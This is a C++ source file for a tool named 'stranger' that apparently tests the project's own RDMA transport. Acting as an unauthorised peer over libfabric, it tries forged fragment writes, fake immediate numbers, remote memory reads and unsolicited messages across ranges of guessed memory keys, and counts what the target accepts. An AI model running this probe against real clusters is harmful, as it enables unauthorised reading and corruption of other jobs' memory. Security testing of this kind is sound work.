// SPDX-License-Identifier: BSD-3-Clause
// Somebody who is not of the job and knows none of its secrets, at a port where one of its processes listens for
// libfabric: stranger PROVIDER ADDRESS PORT ATTACK [FIRST_KEY COUNT]
//
//   write    a fragment with a put into the memory of each of COUNT keys from FIRST_KEY on, at the begin of a ring
//   number   the same without bytes that mean anything, with a number that no fragment of any job has
//   read     reads from the memory of each key
//   message  sends messages that nobody waits for
//
// Prints what it tried and how much of it the other side took; ends with 0 unless it could not try.
#include "network/connection.hpp"

#include <algorithm>
#include <arpa/inet.h>
#include <array>
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <rdma/fabric.h>
#include <rdma/fi_cm.h>
#include <rdma/fi_domain.h>
#include <rdma/fi_endpoint.h>
#include <rdma/fi_errno.h>
#include <rdma/fi_rma.h>
#include <string_view>

namespace {

using clock_type = std::chrono::steady_clock;

constexpr std::chrono::milliseconds patience{300};

void expect(long result, const char* action) {
    if (result >= 0) return;
    std::fprintf(stderr, "stranger: %s: %s\n", action, fi_strerror(static_cast<int>(-result)));
    std::exit(1);
}

// An endpoint of its own, and the address of the victim.
struct attacker {
    fi_info* info = nullptr;
    fid_fabric* fabric = nullptr;
    fid_domain* domain = nullptr;
    fid_cq* completions = nullptr;
    fid_av* table = nullptr;
    fid_ep* endpoint = nullptr;
    fi_addr_t victim = FI_ADDR_UNSPEC;

    attacker(const char* provider, const char* address, const char* port) {
        setenv("FI_PROVIDER", "^psm,psm2,sockets", 0);
        fi_info* const hints = fi_allocinfo();
        hints->caps = FI_RMA | FI_MSG;
        hints->mode = FI_CONTEXT | FI_CONTEXT2;
        hints->ep_attr->type = FI_EP_RDM;
        hints->domain_attr->mr_mode = FI_MR_LOCAL | FI_MR_VIRT_ADDR | FI_MR_ALLOCATED | FI_MR_PROV_KEY | FI_MR_ENDPOINT;
        hints->domain_attr->cq_data_size = 4;
        hints->fabric_attr->prov_name = strdup(provider);
        hints->addr_format = FI_SOCKADDR_IN;
        expect(fi_getinfo(FI_VERSION(1, 11), nullptr, nullptr, 0, hints, &info), "finding the provider");
        expect(fi_fabric(info->fabric_attr, &fabric, nullptr), "opening the fabric");
        expect(fi_domain(fabric, info, &domain, nullptr), "opening the domain");
        fi_cq_attr queue{};
        queue.format = FI_CQ_FORMAT_DATA;
        expect(fi_cq_open(domain, &queue, &completions, nullptr), "opening the completion queue");
        fi_av_attr addresses{};
        addresses.type = FI_AV_TABLE;
        expect(fi_av_open(domain, &addresses, &table, nullptr), "opening the table of addresses");
        expect(fi_endpoint(domain, info, &endpoint, nullptr), "opening the endpoint");
        expect(fi_ep_bind(endpoint, &table->fid, 0), "binding the table of addresses");
        expect(fi_ep_bind(endpoint, &completions->fid, FI_TRANSMIT | FI_RECV), "binding the completion queue");
        expect(fi_enable(endpoint), "enabling the endpoint");
        sockaddr_in there{};
        there.sin_family = AF_INET;
        there.sin_port = htons(static_cast<std::uint16_t>(std::atoi(port)));
        if (inet_pton(AF_INET, address, &there.sin_addr) != 1) expect(-FI_EINVAL, address);
        expect(fi_av_insert(table, &there, 1, &victim, 0, nullptr) == 1 ? 0 : -FI_EINVAL, "the victim's address");
    }

    // Begins an operation, and tells whether it came to a good end.
    template <class Operation>
    bool is_taken(Operation&& begin) {
        const auto deadline = clock_type::now() + patience;
        fi_cq_data_entry entry{};
        long result = 0;
        while ((result = begin()) == -FI_EAGAIN && clock_type::now() < deadline) fi_cq_read(completions, &entry, 1);
        if (result != 0) return false;
        do {
            const long got = fi_cq_read(completions, &entry, 1);
            if (got == 1) return true;
            if (got == -FI_EAGAIN) continue;
            fi_cq_err_entry problem{};
            fi_cq_readerr(completions, &problem, 0);
            return false;
        } while (clock_type::now() < deadline);
        return false;
    }
};

// A put of eight bytes to an address that is nobody's, as the first fragment of a connection.
std::array<std::byte, 128> make_fragment() {
    std::array<std::byte, 128> bytes{};
    dcuda::fragment_header fragment{0, 0, 0, 1};
    const dcuda::message_header put{0x414141410000, 8, dcuda::message_kind::put, 0, UINT32_MAX};
    fragment.bytes = sizeof fragment + sizeof put + 16;
    std::memcpy(bytes.data(), &fragment, sizeof fragment);
    std::memcpy(bytes.data() + sizeof fragment, &put, sizeof put);
    return bytes;
}

} // namespace

int main(int argc, char** argv) {
    if (argc != 5 && argc != 7) {
        std::fprintf(stderr, "Use: stranger PROVIDER ADDRESS PORT write|number|read|message [FIRST_KEY COUNT]\n");
        return 2;
    }
    const std::string_view attack = argv[4];
    const std::uint64_t first = argc == 7 ? std::strtoull(argv[5], nullptr, 0) : 1;
    const std::uint64_t count = argc == 7 ? std::strtoull(argv[6], nullptr, 0) : 1;
    attacker one(argv[1], argv[2], argv[3]);
    std::array<std::byte, 128> bytes = make_fragment();
    void* const source = bytes.data();
    fi_context2 context{};
    const std::size_t size = attack == "number" ? 16 : bytes.size();
    const std::uint64_t number = attack == "number" ? 999'999'999 : 0;
    std::uint64_t taken = 0;
    for (std::uint64_t key = first; key < first + count; ++key)
        taken += one.is_taken([&]() -> long {
            if (attack == "read") return fi_read(one.endpoint, source, size, nullptr, one.victim, 0, key, &context);
            if (attack == "message") return fi_send(one.endpoint, source, size, nullptr, one.victim, &context);
            // Complete when the other side has made it: that it was sent says nothing.
            const iovec from{source, size};
            const fi_rma_iov place{0, size, key};
            const fi_msg_rma write{&from, nullptr, 1, one.victim, &place, 1, &context, number};
            return fi_writemsg(one.endpoint, &write, FI_REMOTE_CQ_DATA | FI_COMPLETION | FI_DELIVERY_COMPLETE);
        });
    std::printf("%s: %llu of %llu taken\n", argv[4], static_cast<unsigned long long>(taken),
                static_cast<unsigned long long>(count));
    return 0;
}
